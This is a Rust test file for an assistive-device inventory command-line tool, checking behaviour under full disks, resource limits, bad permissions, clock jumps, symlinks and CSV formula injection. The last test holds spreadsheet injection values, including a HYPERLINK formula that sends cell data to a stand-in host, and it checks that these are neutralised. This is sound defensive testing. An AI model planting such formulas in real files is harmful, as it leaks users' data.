//! Limits of the machine: a full disk, missing permissions, too few file descriptors, a clock that runs backwards.
//! Each gives one clear sentence and an exit code, loses nothing that was acknowledged, and allows the work to go on when
//! the cause is gone.
//!
//! These tests run the binary under the real limit, and skip with a message where the machine cannot set it. Failures of
//! every single call to the file system are simulated in the library (`power_tests`).

#![cfg(unix)]

use crate::shared::binary;
use assistive_core::{Store, maintenance};
use std::fs;
use std::io::Write;
use std::os::unix::fs::{MetadataExt, PermissionsExt, chown};
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

/// The user `nobody`, to whom permissions apply, unlike root.
const NOBODY: u32 = 65534;

/// A folder with files to import and a store.
struct Place {
    folder: tempfile::TempDir,
    store: PathBuf,
}

impl Place {
    /// Makes a store with a catalogue, and a file of `people` people.
    fn with(people: u32) -> Self {
        let folder = tempfile::tempdir().expect("a temporary folder");
        let place = Self { store: folder.path().join("store"), folder };
        let catalog = "code,name,class,tracking,loan_days\nWC,轮椅,12 22 03,serial,60\n";
        place.write("catalog.csv", catalog);
        let mut sheet = String::from("key,name,division\n");
        (0..people).for_each(|n| sheet.push_str(&format!("{n},试验{n},610902\n")));
        place.write("people.csv", &sheet);
        let site = ["--site", "AK-DPF", "--name", "安康市辅具中心", "--division", "610900"];
        place.ok(&[&["init"][..], &site].concat());
        place.ok(&["import", "catalog", "catalog.csv"]);
        place
    }

    fn write(&self, name: &str, text: &str) {
        fs::write(self.folder.path().join(name), text).expect("a write");
    }

    /// Runs the binary in a shell, after a command such as one that sets a limit.
    fn after(&self, first: &str, args: &[&str]) -> (i32, String) {
        let mut command = Command::new("bash");
        command.args(["-c", &format!("{first}; exec \"$@\"")]).arg("bash").arg(binary()).args(args);
        said(self.prepared(&mut command).output().expect("a shell"))
    }

    fn prepared<'a>(&self, command: &'a mut Command) -> &'a mut Command {
        command
            .current_dir(self.folder.path())
            .env("HOME", self.folder.path())
            .env("ASSISTIVE_STORE", &self.store)
            .env("ASSISTIVE_LANG", "en")
            .env("ASSISTIVE_ACTOR", "Li")
            .stdin(Stdio::null())
    }

    fn ok(&self, args: &[&str]) -> String {
        let (code, text) = self.after("true", args);
        assert_eq!(code, 0, "{args:?}: {text}");
        text
    }

    /// Runs the binary, which must fail with a code and a sentence.
    fn fails(&self, first: &str, args: &[&str], with: i32, sentence: &str) {
        let (code, text) = self.after(first, args);
        assert!(code == with && text.contains(sentence), "{args:?}: {text}[exit {code}]");
    }

    /// Returns the number of commits, after a check that all are sound.
    fn commits(&self) -> u64 {
        let verified = maintenance::verify(&self.store, "a test").expect("a store");
        assert!(verified.is_sound(), "{verified:?}");
        verified.commits
    }
}

fn said(output: Output) -> (i32, String) {
    let text = [output.stdout, output.stderr].concat();
    let text = String::from_utf8(text).expect("UTF-8");
    assert!(!text.contains("panicked"), "{text}");
    (output.status.code().expect("no signal ended it"), text)
}

/// Reports that this machine cannot run a part of a test.
fn skipped(what: &str) {
    writeln!(std::io::stderr(), "skipped: {what}").expect("stderr");
}

#[test]
fn a_file_size_limit_refuses_a_large_import_and_allows_it_later() {
    let place = Place::with(10_000);
    // bash counts in KB. Without the signal the write fails instead.
    let small = "trap '' XFSZ; ulimit -f 64";
    place.fails(small, &["import", "persons", "people.csv"], 5, "the file would be too large");
    assert_eq!(place.commits(), 2, "nothing of it was stored");
    let (code, text) = place.after(small, &["stock", "receive", "WC"]);
    assert_eq!(code, 0, "what fits is stored: {text}");
    let (code, _) = place.after(small, &["backup", "small.backup"]);
    assert_eq!(code, 0, "a small one fits");
    place.ok(&["import", "persons", "people.csv"]);
    place.fails(small, &["backup", "large.backup"], 5, "the file would be too large");
    assert!(!place.folder.path().join("large.backup").exists(), "no half of a backup is left");
    assert_eq!(place.commits(), 4);
}

#[test]
fn a_full_disk_refuses_an_import_and_allows_it_when_there_is_room() {
    let place = Place::with(10_000);
    let disk = place.folder.path().join("disk");
    fs::create_dir(&disk).expect("a folder");
    // A disk of 4 MB that only this shell sees. Each command prints its name and its exit code.
    let script = r#"
        mount -t tmpfs -o size=4m none disk || { echo "no mount"; exit 0; }
        run() { "$BIN" "$@" >out 2>&1; echo "$1=$?"; grep -c 'disk is full' out; }
        run init; run import catalog catalog.csv
        cat /dev/zero >disk/fill 2>/dev/null
        run import persons people.csv
        run info
        run verify
        run backup disk/full.backup; ls disk | grep -c backup
        run compact
        rm disk/fill
        run import persons people.csv
        run verify
        cat /dev/zero >disk/fill 2>/dev/null
        run backup disk/full.backup; ls disk | grep -c backup
        for n in $(seq 0 19); do
            # A checkpoint that cannot be opened is deleted, which makes room: for a few imports at most.
            cat /dev/zero >>disk/fill 2>/dev/null
            { echo key,name,division; for k in $(seq 3000); do echo "$n-$k,试验,610902"; done; } >more.csv
            "$BIN" import persons more.csv >out 2>&1 || break
        done
        grep -c 'disk is full' out
        run verify
        rm disk/fill
        run person add --key last --name 试验 --division 610902
        run verify
        "$BIN" info --json | grep -o '"persons":[0-9]*'
        echo "added=$n"
    "#;
    let mut command = Command::new("unshare");
    command.args(["--mount", "bash", "-c", script]).env("BIN", binary());
    command.env("ASSISTIVE_STORE", disk.join("store"));
    let place_env = |command: &mut Command| {
        command
            .current_dir(place.folder.path())
            .env("ASSISTIVE_LANG", "en")
            .env("ASSISTIVE_ACTOR", "Li")
            .stdin(Stdio::null())
            .output()
    };
    let Ok(output) = place_env(&mut command) else { return skipped("no unshare: the full disk") };
    let text = String::from_utf8(output.stdout).expect("UTF-8");
    if !output.status.success() || text.contains("no mount") {
        return skipped("no mount is allowed: the full disk");
    }
    let lines: Vec<_> = text.lines().collect();
    let (shown, last) = lines.split_at(lines.len() - 2);
    let expected = [
        "init=0",
        "0",
        "import=0",
        "0",
        "import=5",
        "1",
        "info=0",
        "0",
        "verify=0",
        "0",
        "backup=0",
        "0",
        "1",
        "compact=0",
        "0",
        "import=0",
        "0",
        "verify=0",
        "0",
        "backup=1",
        "0",
        "1",
        "1",
        "verify=0",
        "0",
        "person=0",
        "0",
        "verify=0",
        "0",
    ];
    assert_eq!(shown, expected, "{text}");
    // The people from before the disk was full, and the one added afterwards.
    let added: u64 = last[1].trim_start_matches("added=").parse().expect("a number");
    assert!(added < 20, "the disk became full: {text}");
    assert_eq!(last[0], format!("\"persons\":{}", 10_000 + 3_000 * added + 1), "{text}");
}

#[test]
fn a_read_only_store_can_be_read_and_missing_permissions_are_reported() {
    let place = Place::with(0);
    let folder = place.folder.path();
    let root = fs::metadata(folder).expect("there").uid() == 0;
    let mut all = vec![folder.to_owned(), place.store.clone()];
    let files = fs::read_dir(&place.store).expect("a folder").flatten();
    all.extend(files.map(|entry| entry.path()));
    if root {
        all.iter().for_each(|path| chown(path, Some(NOBODY), Some(NOBODY)).expect("root may"));
    }
    let run = |args: &[&str]| {
        let mut command = Command::new(binary());
        if root {
            command.uid(NOBODY).gid(NOBODY);
        }
        said(place.prepared(command.args(args)).output().expect("the binary runs"))
    };
    let allow = |path: &Path, mode| {
        fs::set_permissions(path, fs::Permissions::from_mode(mode)).expect("ours");
    };
    let refused = |args: &[&str]| {
        let (code, text) = run(args);
        assert!(code == 5 && text.contains("permission denied"), "{args:?}: {text}");
    };
    if run(&["info"]).0 != 0 {
        return skipped("other users may not run the binary: permissions");
    }
    let journal = place.store.join("journal");
    // As on a read-only disk, or in the store of another user.
    all[2..].iter().for_each(|file| allow(file, 0o400));
    allow(&place.store, 0o500);
    for read in
        [&["info"][..], &["report", "stock"], &["log"], &["verify"], &["backup", "a.backup"]]
    {
        assert_eq!(run(read).0, 0, "{read:?}: {}", run(read).1);
    }
    refused(&["stock", "receive", "WC"]);
    refused(&["undo"]);
    // A folder that may not be entered, and a journal that may not be read.
    allow(&place.store, 0o000);
    for any in [&["info"][..], &["stock", "receive", "WC"], &["verify"], &["init"]] {
        refused(any);
    }
    allow(&place.store, 0o700);
    allow(&journal, 0o000);
    for any in [&["info"][..], &["stock", "receive", "WC"], &["backup", "b.backup"]] {
        refused(any);
    }
    assert!(!folder.join("b.backup").exists());
    all[2..].iter().for_each(|file| allow(file, 0o600));
    assert_eq!(run(&["stock", "receive", "WC"]).0, 0);
    assert_eq!(place.commits(), 3);
}

#[test]
fn with_few_file_descriptors_each_command_succeeds_or_reports_the_limit() {
    let place = Place::with(1_000);
    place.ok(&["import", "persons", "people.csv"]);
    let mut stored = place.commits();
    let (mut refused, mut done) = (0, 0);
    // With fewer than four the system cannot load its libraries.
    for files in 4..=14 {
        let limit = format!("ulimit -n {files}");
        let (code, text) = place.after(&limit, &["stock", "receive", "WC"]);
        match code {
            0 => (stored, done) = (stored + 1, done + 1),
            _ => {
                refused += 1;
                assert!(code == 5 && text.contains("too many files are open"), "{text}");
            }
        }
        let (code, text) = place.after(&limit, &["report", "stock"]);
        assert!(code == 0 || text.contains("too many files are open"), "{text}[{code}]");
        assert_eq!(place.commits(), stored, "{files} files");
    }
    assert!(refused > 0 && done > 0, "{refused} refused, {done} done");
}

#[test]
fn a_clock_that_jumps_is_doubted_and_reports_follow_the_order_of_commits() {
    let place = Place::with(0);
    let at = |moment: &str, args: &[&str]| {
        let first = format!("export ASSISTIVE_NOW={moment} ASSISTIVE_TODAY=2024-03-01");
        let (code, text) = place.after(&first, args);
        assert_eq!(code, 0, "{text}");
        text
    };
    let doubted = |moment: &str, text: &str| {
        let first = format!("export ASSISTIVE_NOW={moment} ASSISTIVE_TODAY=2024-03-01");
        place.fails(&first, &["stock", "receive", "WC"], 1, text);
    };
    let receive = ["stock", "receive", "WC", "--yes"];
    at("2027-01-01T08:00:00Z", &receive);
    doubted(
        "2099-01-01T08:00:00Z",
        "more than a year after the last change, which is of 2027-01-01",
    );
    at("2099-01-01T08:00:00Z", &receive);
    doubted("2027-01-02T08:00:00Z", "the last change is of 2099-01-01");
    let told = at("2027-01-02T08:00:00Z", &receive);
    assert!(told.contains("recorded at the time of this machine's clock, 2027-01-02"), "{told}");
    // The clock is trusted again, and one that is a little behind is no reason to ask.
    at("2027-01-02T07:55:00Z", &receive[..3]);
    let log = Store::log(&place.store).expect("a store");
    let years: Vec<_> =
        log.iter().skip(2).map(|commit| commit.at.to_string()[..4].to_owned()).collect();
    assert_eq!(years, ["2027", "2099", "2027", "2027"]);
    // Reports as of a day follow the order of the commits.
    for (day, stock, wrong) in
        [("2027-01-01", 1, false), ("2027-01-02", 4, true), ("2098-12-31", 4, true)]
    {
        let known = at("2027-01-03T00:00:00Z", &["report", "stock", "--as-of", day, "--json"]);
        assert!(known.contains(&format!("\"in_stock\":{stock}")), "{day}: {known}");
        assert_eq!(known.contains("Commit 4 is included"), wrong, "{day}: {known}");
    }
}

#[test]
fn a_written_file_replaces_no_link_no_device_and_no_file_of_others() {
    let place = Place::with(1);
    let folder = place.folder.path();
    let path = |name: &str| folder.join(name);
    std::os::unix::fs::symlink("target.csv", path("dangling.csv")).expect("a link");
    std::os::unix::fs::symlink("people.csv", path("link.csv")).expect("a link");
    assert!(Command::new("mkfifo").arg(path("pipe.csv")).status().expect("mkfifo").success());
    place.write("people.csv.new", "of another");
    for write in [&["export", "persons"][..], &["report", "rate", "-o"]] {
        for (name, force) in
            [("dangling.csv", false), ("link.csv", false), ("link.csv", true), ("pipe.csv", true)]
        {
            let mut args = [write, &[name]].concat();
            args.extend(force.then_some("--force"));
            let (code, text) = place.after("true", &args);
            assert_eq!(code, 1, "{args:?}: {text}");
        }
    }
    place.fails("true", &["backup", "dangling.csv"], 1, "already exists");
    assert!(!path("target.csv").exists(), "no link was followed");
    place.ok(&["export", "persons", "people.csv", "--force"]);
    assert_eq!(fs::read_to_string(path("people.csv.new")).expect("it stays"), "of another");
    // Nothing that was not asked for is left behind.
    let mut names: Vec<_> = fs::read_dir(folder).expect("a folder").flatten().collect();
    names.retain(|entry| entry.path() != place.store);
    let mut names: Vec<_> =
        names.iter().map(|entry| entry.file_name().to_string_lossy().into_owned()).collect();
    names.sort();
    let known = ["catalog.csv", "dangling.csv", "link.csv", "people.csv", "people.csv.new"];
    assert_eq!(names, [&known[..], &["pipe.csv"]].concat());
}

#[test]
fn manual_pages_replace_others_only_if_forced() {
    let place = Place::with(0);
    place.ok(&["man", "man1"]);
    let page = place.folder.path().join("man1/assistive.1");
    fs::write(&page, "mine").expect("a write");
    place.fails("true", &["man", "man1"], 1, "already exists");
    place.ok(&["man", "man1", "--force"]);
    assert!(fs::read_to_string(&page).expect("a page").contains("assistive"));
}

#[test]
fn formulas_in_rejected_rows_are_texts() {
    let place = Place::with(0);
    let sheet = "key,name,division,guardian,x-memo\n1,\"=HYPERLINK(\"\"http://x/\"\"&A1)\",999999,＝1+1,@SUM(A1)\n\
        2,'李,999999,王,=A1\n";
    place.write("wrong.csv", sheet);
    let (code, text) =
        place.after("true", &["import", "persons", "wrong.csv", "--on-error", "skip"]);
    assert_eq!(code, 1, "{text}");
    let rejected = place.folder.path().join("wrong.csv.rejected.csv");
    let rejected = fs::read_to_string(rejected).expect("the rejected rows");
    for row in ["1,####,999999,'＝1+1,'@SUM(A1),", "2,'李,999999,王,'=A1,"] {
        assert!(rejected.contains(row), "{row} in {rejected}");
    }
    // What was wrong is still wrong.
    place.fails("true", &["import", "persons", "wrong.csv.rejected.csv"], 1, "name");
}
